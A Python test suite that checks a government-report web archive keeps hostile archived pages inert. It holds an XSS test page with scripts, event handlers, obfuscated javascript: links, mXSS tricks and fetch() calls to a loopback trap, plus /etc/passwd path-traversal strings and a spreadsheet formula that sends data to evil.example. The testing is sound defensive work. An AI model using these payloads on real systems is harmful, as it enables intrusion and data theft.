"""Archived hostile pages shown with nothing executing, in a real Chromium; raw responses sandboxed; every path
traversal attempt a 404.

The hostile page tries every way to run or to call out: <script>, on* handlers (body, img, svg), javascript: links,
<meta http-equiv=refresh>, <base>, <iframe>, <object>/<embed>, a form, external images and style sheets. Each
attempt targets a trap: a tiny HTTP server on loopback that records every request, ``console.log('PWNED')``,
``alert``, ``window.parent.name`` and ``document.title``. The browser listens to console, dialog and request
events; the trap must stay silent.
"""
from __future__ import annotations

import http.client
import threading
from datetime import date, datetime, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from parsers.document import parse_document
from parsers.record import FetchContext
from storage.archive import Archive
from storage.catalog import queries
from storage.config import Config
from tests.web_fixtures import REQUEST_HEADERS, chromium_browser, serving

pytestmark = pytest.mark.slow

MOMENT = datetime(2025, 3, 1, 2, 0, tzinfo=timezone.utc)
SITE = "http://hostile.xxgk.test"
AGENCY_NAME = "<i>恶意</i>机关<script>console.log('PWNED')</script>"


class Trap:
    """A loopback HTTP server that remembers every request it gets."""

    def __init__(self):
        hits: list[str] = []
        self.hits = hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's naming
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.end_headers()
                self.wfile.write(b"trap")

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def hostile_page(trap: str) -> bytes:
    return f"""<!DOCTYPE html>
<html><head>
<title>&lt;script&gt;document.title='PWNED'&lt;/script&gt;恶意页面</title>
<meta http-equiv="refresh" content="0;url={trap}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="{trap}/base/">
<link rel="stylesheet" href="{trap}/style.css">
<script>console.log('PWNED'); window.parent.name = 'PWNED'; document.title = 'PWNED'; fetch('{trap}/script');
        alert('PWNED');</script>
<script src="{trap}/external.js"></script>
</head>
<body onload="console.log('PWNED'); fetch('{trap}/onload')">
<h1 id="marker">存档的恶意页面</h1>
<img src="{trap}/img.png" onerror="console.log('PWNED'); fetch('{trap}/onerror')">
<img src="missing.png" onerror="window.parent.name='PWNED'">
<a id="js" href="javascript:console.log('PWNED');fetch('{trap}/js-link')">点我</a>
<a id="js2" href=" &#106;ava&#x09;script:alert('PWNED')">再点我</a>
<a id="next" href="{SITE}/next.html">下一页</a>
<a id="relative" href="relative.html">相对链接（&lt;base&gt; 指向陷阱，存档中没有）</a>
<a id="kept" href="kept.html">相对链接（&lt;base&gt; 指向陷阱，存档中有）</a>
<svg onload="console.log('PWNED')"><script>console.log('PWNED')</script>
  <a xlink:href="javascript:console.log('PWNED')"><text>svg</text></a></svg>
<iframe src="{trap}/frame"></iframe>
<iframe srcdoc="&lt;script&gt;console.log('PWNED')&lt;/script&gt;"></iframe>
<object data="{trap}/object"><param name="src" value="{trap}/param">备用内容</object>
<embed src="{trap}/embed">
<form id="form" action="{trap}/form" method="post"><input name="q"><button id="submit">提交</button></form>
<div style="background-image: url({trap}/background.png)">背景</div>
<div style="background-image: image-set('{trap}/image-set.png' 1x)">image-set</div>
<div style="background-image: u\\72l({trap}/escaped-url.png)">转义的 url</div>
<div style="width: expr\\65ssion(console.log('PWNED'))">转义的 expression</div>
<style>@font-face {{ font-family: trap; src: url({trap}/font.woff) }} .t {{ font-family: trap }}</style><p class="t">字体</p>
<svg width="10" height="10"><rect width="10" height="10" fill="url({trap}/fill.svg#p)" filter="url({trap}/f.svg#f)"/></svg>
<math><mtext><table><mglyph><style><img src="{trap}/mxss.png" onerror="console.log('PWNED')"></style></mglyph></table></mtext></math>
<svg><style><img src="{trap}/svg-style.png" onerror="console.log('PWNED')"></style></svg>
<p>正文</p>
</body></html>""".encode("utf-8")


@pytest.fixture(scope="module")
def trap():
    server = Trap()
    yield server
    server.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, trap):
    """An archive with the hostile page, the page it links to, and a report whose title and agency carry HTML."""
    config = Config.from_env({}, data_dir=tmp_path_factory.mktemp("hostile"))
    archive = Archive.open(config, durability="os")
    with archive.catalog.session() as session:
        queries.upsert_agency(session, "evil", AGENCY_NAME, level="department")
    page = archive.record_fetch(f"{SITE}/page.html", "GET", REQUEST_HEADERS, 200, "OK",
                                [("Content-Type", "text/html; charset=utf-8")], hostile_page(trap.url),
                                fetched_at=MOMENT, agency_id="evil")
    following = archive.record_fetch(f"{SITE}/next.html", "GET", REQUEST_HEADERS, 200, "OK",
                                     [("Content-Type", "text/html; charset=utf-8")],
                                     "<html><body><p id='second'>第二页内容</p></body></html>".encode(),
                                     fetched_at=MOMENT, agency_id="evil")
    # the page its <base href> sends relative links to, as the archive holds it: links resolve to this copy
    kept = archive.record_fetch(f"{trap.url}/base/kept.html", "GET", REQUEST_HEADERS, 200, "OK",
                                [("Content-Type", "text/html; charset=utf-8")],
                                "<html><body><p id='kept-copy'>存档中的相对链接页面</p></body></html>".encode(),
                                fetched_at=MOMENT, agency_id="evil")
    title = "恶意机关2023年政府信息公开工作年度报告&lt;b&gt;粗体&lt;/b&gt;&lt;img src=x onerror=alert(1)&gt;"
    body = (f"<html><head><title>{title}</title><meta name='PubDate' content='2024-01-20 10:00'></head>"
            f"<body><h1>{title}</h1><p>一、总体情况</p><p>本机关2023年收到政府信息公开申请2件。</p></body></html>").encode()
    report_capture = archive.record_fetch(f"{SITE}/report.html", "GET", REQUEST_HEADERS, 200, "OK",
                                          [("Content-Type", "text/html; charset=utf-8")], body, fetched_at=MOMENT,
                                          agency_id="evil")
    record = parse_document(body, FetchContext(url=f"{SITE}/report.html", content_type="text/html; charset=utf-8"))
    assert "<b>" in (record.title or ""), record.title  # the title really carries markup
    with archive.catalog.session() as session:
        report = queries.add_report(session, report_capture.id, record, agency_id="evil")
        queries.upsert_verdict(session, "evil", 2023, "on_time", deadline=date(2024, 1, 31),
                               legal_basis="<script>console.log('PWNED')</script>", report_id=report.id)
    archive.finish("finished")
    return {"config": config, "page": page.id, "next": following.id, "kept": kept.id, "report": report.id,
            "title": record.title}


@pytest.fixture(scope="module")
def base_url(hostile):
    with serving(hostile["config"].data_dir) as url:
        yield url


@pytest.fixture(scope="module")
def browser():
    yield from chromium_browser()


@pytest.fixture
def watched(browser):
    """A page whose console messages, dialogs, page errors and requests are all recorded."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(15_000)
    seen = {"console": [], "dialogs": [], "requests": [], "errors": []}
    page.on("console", lambda message: seen["console"].append(message.text))
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: seen["errors"].append(str(error)))
    context.on("request", lambda request: seen["requests"].append(request.url))
    yield page, seen
    context.close()


def assert_nothing_fired(page, seen, trap, base_url, *, sanitised: bool = True):
    """No request reached the trap, nothing was logged or alerted, no title or name was set. On a sanitised page
    the browser does not even try a request outside the app (unsanitised, it tries and the CSP refuses)."""
    page.wait_for_timeout(700)  # time for a refresh, an onload or an onerror to try
    assert trap.hits == []
    assert not any("PWNED" in text for text in seen["console"]), seen["console"]
    assert seen["dialogs"] == []
    assert page.title() != "PWNED" and page.evaluate("() => window.name") != "PWNED"
    if sanitised:
        outside = [url for url in seen["requests"] if not url.startswith((base_url, "data:", "about:"))]
        assert outside == []


def test_the_hostile_page_in_its_frame_runs_nothing_and_calls_nowhere(watched, trap, hostile, base_url):
    page, seen = watched
    page.goto(f"{base_url}/captures/{hostile['page']}")
    frame = page.frame_locator("iframe.archived")
    assert frame.locator("#marker").inner_text() == "存档的恶意页面"
    assert_nothing_fired(page, seen, trap, base_url)
    archived = next(f for f in page.frames if f.url.endswith(f"/raw/{hostile['page']}"))
    assert archived.evaluate("() => self.origin") == "null"
    leftovers = archived.evaluate("""() => ({
        active: document.querySelectorAll('script, object, embed, base, iframe, link, meta[http-equiv]').length,
        handlers: [...document.querySelectorAll('*')].flatMap(el => [...el.attributes]
                      .filter(a => a.name.toLowerCase().startsWith('on')).map(a => a.name)),
        scriptLinks: [...document.querySelectorAll('[href], [src], [action], [formaction]')].filter(el =>
                      ['href', 'src', 'action', 'formaction', 'xlink:href'].some(name =>
                      (el.getAttribute(name) || '').replace(/[\\s\\x00-\\x20]/g, '').toLowerCase()
                      .startsWith('javascript:'))).length,
        fallback: document.body.textContent.includes('备用内容')})""")
    assert leftovers == {"active": 0, "handlers": [], "scriptLinks": 0, "fallback": True}


def test_clicking_inside_the_frame_stays_in_the_archive(watched, trap, hostile, base_url):
    page, seen = watched
    page.goto(f"{base_url}/captures/{hostile['page']}")
    frame = page.frame_locator("iframe.archived")
    frame.locator("#js").click()
    frame.locator("#js2").click()
    frame.locator("#submit").click()
    frame.locator("#next").click()
    # A click starts the frame's navigation and does not wait for its document: expect() waits for the text,
    # inner_text() may read the element while the parser has not yet added its text (seen in CI: '').
    expect(frame.locator("#second")).to_have_text("第二页内容")  # the archived copy, via /captures/latest
    assert page.url == f"{base_url}/captures/{hostile['page']}"  # the UI page itself never navigated
    assert_nothing_fired(page, seen, trap, base_url)


def test_relative_links_under_a_hostile_base_stay_in_the_archive(watched, trap, hostile, base_url):
    """The page's <base href> names the trap: its relative links resolve against it, and lead to the archived
    copy of that address or to the archive's "not archived" answer, never to the live host."""
    page, seen = watched
    page.goto(f"{base_url}/captures/{hostile['page']}")
    frame = page.frame_locator("iframe.archived")
    frame.locator("#kept").click()
    expect(frame.locator("#kept-copy")).to_have_text("存档中的相对链接页面")  # waits for the document, as above
    page.goto(f"{base_url}/captures/{hostile['page']}")
    frame.locator("#relative").click()
    # The click starts a navigation of the frame; expect() waits for its answer, inner_text() would read the old page.
    expect(frame.locator("body")).to_contain_text("存档中没有该网址的捕获")
    expect(frame.locator("body")).to_contain_text(f"{trap.url}/base/relative.html")
    assert_nothing_fired(page, seen, trap, base_url)


def test_the_raw_page_opened_directly_is_sandboxed_too(watched, trap, hostile, base_url):
    page, seen = watched
    response = page.goto(f"{base_url}/raw/{hostile['page']}")
    headers = response.headers
    assert headers["content-security-policy"].startswith("sandbox;")
    assert "default-src 'none'" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    assert page.locator("#marker").inner_text() == "存档的恶意页面"
    assert page.title() == "<script>document.title='PWNED'</script>恶意页面"  # shown as text
    assert_nothing_fired(page, seen, trap, base_url)


def test_titles_and_names_with_html_show_as_text(watched, trap, hostile, base_url):
    page, seen = watched
    page.goto(f"{base_url}/reports/{hostile['report']}")
    assert page.inner_text("#report-title") == hostile["title"]
    assert page.locator("#report-title b, #report-title img").count() == 0
    page.goto(f"{base_url}/")
    assert page.get_by_role("link", name=AGENCY_NAME).count() == 1
    assert page.locator("#verdicts i, #verdicts script").count() == 0
    page.goto(f"{base_url}/agencies/evil")
    assert page.inner_text("h1") == AGENCY_NAME
    assert "<script>console.log('PWNED')</script>" in page.inner_text("#agency-verdicts")
    page.goto(f"{base_url}/search?q=粗体")
    assert page.locator("#results b, #results img").count() == 0
    assert_nothing_fired(page, seen, trap, base_url)


def test_the_whole_page_is_drawn_from_the_archive_without_running_or_calling_anything(watched, trap, hostile,
                                                                                        base_url):
    """整页截图 of the hostile page: the server's Chromium draws the archived bytes with scripts off and every
    request it makes answered from the archive or refused; the trap hears nothing from it either."""
    import io

    from PIL import Image

    page, seen = watched
    page.goto(f"{base_url}/captures/{hostile['page']}")
    with page.expect_response("**/full-page.jpg") as answered:
        page.get_by_role("link", name="整页截图").click()
    response = answered.value
    assert response.status == 200 and response.headers["content-type"] == "image/jpeg"
    assert response.headers["content-security-policy"].startswith("sandbox;")
    image = Image.open(io.BytesIO(response.body())).convert("L")
    assert image.width == 1280 and sum(image.histogram()[:64]) > 500  # the page's text was drawn
    page.wait_for_url("**/full-page.jpg")
    page.go_back()  # the checks below evaluate in the page: not in a sandboxed image document (Playwright hangs)
    assert_nothing_fired(page, seen, trap, base_url)


def test_raw_responses_carry_the_sandbox_whatever_they_hold(hostile, base_url):
    host = urlsplit(base_url)
    for capture in (hostile["page"], hostile["next"]):
        for query in ("", "?download=1"):
            connection = http.client.HTTPConnection(host.hostname, host.port, timeout=10)
            connection.request("GET", f"/raw/{capture}{query}")
            response = connection.getresponse()
            response.read()
            assert response.status == 200
            assert response.getheader("Content-Security-Policy") == \
                "sandbox; default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'; base-uri 'none'"
            assert response.getheader("X-Content-Type-Options") == "nosniff"
            disposition = response.getheader("Content-Disposition")
            assert disposition.startswith("attachment;" if query else "inline;") and "\n" not in disposition
            connection.close()


def test_an_archived_pdf_opens_in_the_browsers_viewer_and_html_sent_as_pdf_stays_sandboxed(tmp_path):
    """Chrome will not run its PDF viewer in a sandboxed document ("This page has been blocked by Chrome"): an
    archived PDF is served inline as application/pdf, nosniff, without the CSP's sandbox; bytes that are not a PDF, whatever
    type their server claimed, keep the sandbox."""
    from fastapi.testclient import TestClient

    from storage.archive import Archive
    from storage.config import Config
    from web.app import create_app

    config = Config.from_env({}, data_dir=tmp_path / "data")
    archive = Archive.open(config, durability="os")
    try:
        pdf = archive.record_fetch("http://x.gov.cn/nb/2024.pdf", "GET", [], 200, "OK",
                                   [("Content-Type", "application/octet-stream")],
                                   (Path(__file__).parent / "fixtures" / "corpus" / "szfgs2024.pdf").read_bytes())
        fake = archive.record_fetch("http://x.gov.cn/nb/fake.pdf", "GET", [], 200, "OK",
                                    [("Content-Type", "application/pdf")],
                                    b"<html><body><script>alert(1)</script>not a pdf</body></html>")
        archive.finish("finished")
    except BaseException:
        archive.close()
        raise
    with TestClient(create_app(config)) as client:
        shown = client.get(f"/raw/{pdf.id}")
        assert shown.status_code == 200 and shown.headers["content-type"] == "application/pdf"
        assert shown.headers["x-content-type-options"] == "nosniff"
        assert shown.headers["content-disposition"].startswith("inline;")
        assert shown.headers["content-security-policy"] == "frame-ancestors 'self'"
        assert client.get(f"/raw/{pdf.id}?download=1").headers["content-security-policy"].startswith("sandbox;")
        faked = client.get(f"/raw/{fake.id}")
        assert faked.headers["content-type"] != "application/pdf"
        assert faked.headers["content-security-policy"].startswith("sandbox;")


@pytest.mark.parametrize("path", [
    "/raw/../../etc/passwd",
    "/raw/%2e%2e/%2e%2e/etc/passwd",
    "/raw/1/../../../etc/passwd",
    "/raw/..%2f..%2fetc%2fpasswd",
    "/static/../app.py",
    "/static/%2e%2e/app.py",
    "/static/..%2fapp.py",
    "/static/%2e%2e%2f%2e%2e%2fstorage%2fconfig.py",
    "/static/....//app.py",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/agencies/..%2f..%2fetc%2fpasswd",
    "/reports/..%2f1",
    "/captures/%2e%2e",
    "/captures/..%2f..%2fetc%2fpasswd/full-page.jpg",
    "/captures/1/../../../etc/passwd/full-page.jpg",
    "/captures/%2e%2e/full-page.jpg",
    "/runs/..%2f..%2fetc%2fpasswd",
    "/templates/base.html",
    "/web/app.py",
])
def test_path_traversal_attempts_are_404(base_url, path):
    host = urlsplit(base_url)
    connection = http.client.HTTPConnection(host.hostname, host.port, timeout=10)
    connection.request("GET", path)  # sent as written: http.client does not normalise the path
    response = connection.getresponse()
    body = response.read()
    connection.close()
    assert response.status == 404, path
    assert b"root:" not in body and b"import " not in body and b"{%" not in body


def test_the_csp_alone_would_stop_the_page_even_unsanitised(watched, trap, hostile, base_url):
    """Defence in depth: the raw response's headers by themselves keep the original hostile bytes inert."""
    page, seen = watched
    original = hostile_page(trap.url)

    def unsanitised(route):
        served = route.fetch()
        route.fulfill(status=200, headers=served.headers, body=original)

    page.route(f"{base_url}/raw/{hostile['page']}", unsanitised)
    page.goto(f"{base_url}/raw/{hostile['page']}")
    assert page.locator("#marker").inner_text() == "存档的恶意页面"
    assert page.locator("script").count() >= 2  # the scripts are there this time, and still nothing runs
    assert_nothing_fired(page, seen, trap, base_url, sanitised=False)
    page.goto(f"{base_url}/captures/{hostile['page']}")
    assert page.frame_locator("iframe.archived").locator("#marker").inner_text() == "存档的恶意页面"
    assert_nothing_fired(page, seen, trap, base_url, sanitised=False)


def get_with_host(base_url: str, host: str | None, path: str = "/api/dashboard") -> tuple[int, bytes]:
    parts = urlsplit(base_url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)
    try:
        connection.putrequest("GET", path, skip_host=True)
        if host is not None:
            connection.putheader("Host", host)
        connection.endheaders()
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def test_a_page_under_another_host_name_cannot_read_the_ui(hostile, base_url):
    """DNS rebinding: a site the user visits points its own name at 127.0.0.1 and reads the UI as same-origin. Its
    requests carry its own name in Host, and xxgk serve answers only the names it was started for."""
    port = urlsplit(base_url).port
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", "LOCALHOST", f"localhost.:{port}"):
        status, body = get_with_host(base_url, host)
        assert status == 200 and AGENCY_NAME.encode() in body, host
    for host in (f"attacker.example:{port}", "attacker.example", "127.0.0.1.attacker.example", f"[::2]:{port}",
                 "localhost@attacker.example", ""):
        status, body = get_with_host(base_url, host)
        assert status == 400, host
        assert AGENCY_NAME.encode() not in body and "不在本服务允许的名称之列".encode() in body, host
    status, body = get_with_host(base_url, None)   # HTTP/1.1 without a Host: the server refuses it itself
    assert status == 400 and AGENCY_NAME.encode() not in body
    # the exports, whose permalinks are built from the Host header, are refused alike
    status, body = get_with_host(base_url, "attacker.example", "/export.csv?year=2023")
    assert status == 400 and b"attacker.example/captures" not in body


def test_serve_answers_the_names_it_is_given(hostile):
    with serving(hostile["config"].data_dir, "--allowed-host", "reports.example.org") as url:
        assert get_with_host(url, "reports.example.org")[0] == 200
        assert get_with_host(url, "REPORTS.example.org:8443")[0] == 200
        assert get_with_host(url, "other.example.org")[0] == 400
    with serving(hostile["config"].data_dir, "--allowed-host", "*") as url:
        assert get_with_host(url, "anything.example")[0] == 200


def test_no_documentation_page_loads_from_a_cdn(base_url):
    """/docs serves Swagger UI from the installed package; FastAPI's ReDoc page (scripts and fonts from CDNs) is off."""
    status, body = get_with_host(base_url, urlsplit(base_url).netloc, "/docs")
    assert status == 200 and b"/docs-assets/swagger-ui-bundle.js" in body and b"cdn." not in body
    assert get_with_host(base_url, urlsplit(base_url).netloc, "/redoc")[0] == 404


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")示例市2023年政府信息公开工作年度报告'


def test_a_title_that_starts_like_a_formula_stays_text_in_every_spreadsheet(tmp_path):
    """A page's own title is the author's text: in the dashboard's CSV and XLSX and in `xxgk status`'s XLSX it must
    open as that text, not as a formula that links out (or computes) in the reader's spreadsheet."""
    import csv
    import io

    from fastapi.testclient import TestClient
    from openpyxl import load_workbook

    from cli.main import main
    from web.app import create_app

    config = Config.from_env({}, data_dir=tmp_path / "data")
    archive = Archive.open(config, durability="os")
    with archive.catalog.session() as session:
        queries.upsert_agency(session, "formula", "示例市卫生健康委员会", level="department")
    body = (f"<html><head><meta name='ArticleTitle' content='{FORMULA_TITLE}'>"
            "<meta name='PubDate' content='2024-01-20 10:00'></head><body><h1>年度报告</h1><p>一、总体情况</p>"
            "<p>本机关2023年收到政府信息公开申请2件。</p></body></html>").encode()
    url = "http://formula.gov.cn/nb/2023.html"
    capture = archive.record_fetch(url, "GET", REQUEST_HEADERS, 200, "OK",
                                   [("Content-Type", "text/html; charset=utf-8")], body,
                                   fetched_at=datetime(2024, 1, 25, 2, 0, tzinfo=timezone.utc), agency_id="formula")
    record = parse_document(body, FetchContext(url=url, content_type="text/html; charset=utf-8"))
    assert record.is_report and record.title.startswith("=HYPERLINK("), (record.title, record.kind_reason)
    with archive.catalog.session() as session:
        queries.add_report(session, capture.id, record, agency_id="formula")
    archive.finish("finished")
    output = tmp_path / "status.xlsx"
    assert main(["--data-dir", str(config.data_dir), "status", "--year", "2023", "--as-of", "2024-06-01",
                 "--format", "xlsx", "--output", str(output)]) == 0

    def cells_of(workbook_bytes_or_path):
        sheet = load_workbook(workbook_bytes_or_path).worksheets[0]
        rows = list(sheet.iter_rows())
        column = [cell.value for cell in rows[0]].index("标题")
        return [(row[column].value, row[column].data_type) for row in rows[1:]]

    assert cells_of(output) == [(record.title, "s")]
    with TestClient(create_app(config)) as client:
        assert main(["--data-dir", str(config.data_dir), "status", "--year", "2023"]) == 0   # stores the verdicts
        xlsx = client.get("/export.xlsx", params={"year": "2023"})
        assert xlsx.status_code == 200
        assert cells_of(io.BytesIO(xlsx.content)) == [(record.title, "s")]
        exported = list(csv.DictReader(io.StringIO(client.get("/export.csv", params={"year": "2023"})
                                                   .content.decode("utf-8-sig"))))
        assert [row["标题"] for row in exported] == ["'" + record.title]
        # the JSON keeps the text as it is: no spreadsheet reads it
        assert client.get("/export.json", params={"year": "2023"}).json()["rows"][0]["title"] == record.title
